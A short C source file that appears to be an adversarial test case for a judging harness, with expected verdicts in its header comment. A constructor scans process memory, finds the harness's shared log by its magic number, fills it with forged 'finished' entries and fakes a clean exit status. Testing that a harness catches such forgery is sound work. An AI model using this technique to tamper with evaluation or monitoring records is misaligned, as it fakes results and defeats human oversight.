/* verdict: left-early, wrong, lacks-an-entry Finds the shared memory of the log and fills it with decisions of its own,
 * marked as finished: exactly what a forger can do, and all of it. A pipe would tell which addresses are mapped, but
 * none can be had; write() to standard output does: it fails on an address that is not there. */
#include <stdint.h>
#include <string.h>
#include <unistd.h>

struct forged_log {
    uint64_t magic;
    uint32_t record_size, finished;
    uint64_t capacity, count;
};

__attribute__((constructor)) static void attack(void)
{
    uintptr_t near = (uintptr_t)&near & ~(uintptr_t)4095, library = (uintptr_t)&strlen & ~(uintptr_t)4095;
    const uintptr_t starts[] = {library, near};
    for (unsigned s = 0; s < 2; s++)
        for (uintptr_t page = starts[s] + (64ul << 20), n = 0; n < 65536; n++, page -= 4096) {
            if (write(1, (void *)page, 1) != 1)
                continue;
            for (uintptr_t at = page; at < page + 4096 - sizeof(struct forged_log); at += 8) {
                struct forged_log *log = (struct forged_log *)at;
                if (log->magic != 0x31474f4c544c4146u || log->record_size != 4)
                    continue;
                memset(log + 1, 0, log->capacity * log->record_size);
                log->count = log->capacity;
                log->finished = 1;
                uint32_t *stage = (uint32_t *)page; /* the note before the log: "returned", code 0 */
                stage[0] = 4;
                stage[1] = 0;
            }
        }
    _exit(0);
}
